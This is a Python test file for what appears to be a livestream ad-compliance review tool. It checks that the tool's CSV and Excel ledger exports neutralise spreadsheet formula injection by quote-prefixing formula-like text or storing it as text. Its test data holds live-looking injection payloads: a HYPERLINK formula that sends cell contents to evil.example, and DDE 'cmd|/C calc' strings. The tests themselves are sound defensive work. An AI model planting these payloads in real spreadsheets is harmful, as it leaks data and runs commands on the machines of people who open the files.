"""Spreadsheet (formula) injection in the ledger exports (issue 12): hostile text stays text."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from review.ledger import csv_safe, ledger_csv, ledger_xlsx
from review.queries import LedgerRow, Statistics

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def row(seq: int, text: str, *, note: str = "", stream: str = "room") -> LedgerRow:
    return LedgerRow(
        seq=seq,
        alert_id=f"a{seq}",
        time_local="2024-05-01 20:00:00",
        stream_id=stream,
        broadcast_id="b1",
        moment="00:01:02",
        category="false_claim",
        category_name="虚假宣传",
        code="A1",
        rule="r.1",
        severity="high",
        source="speech",
        text=text,
        law="广告法",
        status="unreviewed",
        status_name="未审核",
        reviewer="",
        decided_local="",
        note=note,
        manifest_sha256="0" * 64,
    )


def stats(stream: str) -> Statistics:
    item = {
        "alerts": 1,
        "violations": 0,
        "confirmed": 0,
        "escalated": 0,
        "false_positive": 0,
        "unreviewed": 1,
        "precision": None,
    }
    return Statistics(
        timezone="Asia/Shanghai",
        since_ts=None,
        until_ts=None,
        totals={"alerts": 1},
        per_day=[{"day": "2024-05-01", **item}],
        per_category=[{"category": "false_claim", **item}],
        per_stream=[{"stream": stream, **item}],
        per_rule=[{"rule": "r.1", **item}],
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_prefixes_formula_like_cells(text: str) -> None:
    out = ledger_csv([row(1, text, note=text)]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(out)))
    header = rows[0]
    got = rows[1][header.index("内容 Text")]
    assert got == "'" + text
    assert rows[1][header.index("备注 Note")] == "'" + text
    assert rows[1][0] == "1"  # numbers are untouched


def test_csv_leaves_ordinary_text_alone() -> None:
    assert csv_safe("这款面霜全网最低价") == "这款面霜全网最低价"
    assert csv_safe("a=b") == "a=b"
    assert csv_safe(-5) == -5 and csv_safe(None) is None


def test_xlsx_stores_formula_like_text_as_text_never_a_formula() -> None:
    rows = [row(i + 1, t, note=t) for i, t in enumerate(HOSTILE)]
    data = ledger_xlsx(rows, stats("=cmd|'/C calc'!A0"), '=HYPERLINK("x")')
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name), name  # no formula anywhere
    wb = load_workbook(io.BytesIO(data))
    ws = wb["台账 Ledger"]
    assert ws["A1"].value == '=HYPERLINK("x")' and ws["A1"].data_type == "s"
    header = [c.value for c in ws[2]]
    col = header.index("内容 Text") + 1
    for i, text in enumerate(HOSTILE):
        cell = ws.cell(3 + i, col)
        assert cell.data_type == "s" and cell.value == text
        assert cell.quotePrefix
    assert ws.cell(3, 1).value == 1 and ws.cell(3, 1).data_type == "n"
    summary = wb["统计 Summary"]
    names = [c.value for c in summary["A"]]
    assert "=cmd|'/C calc'!A0" in names
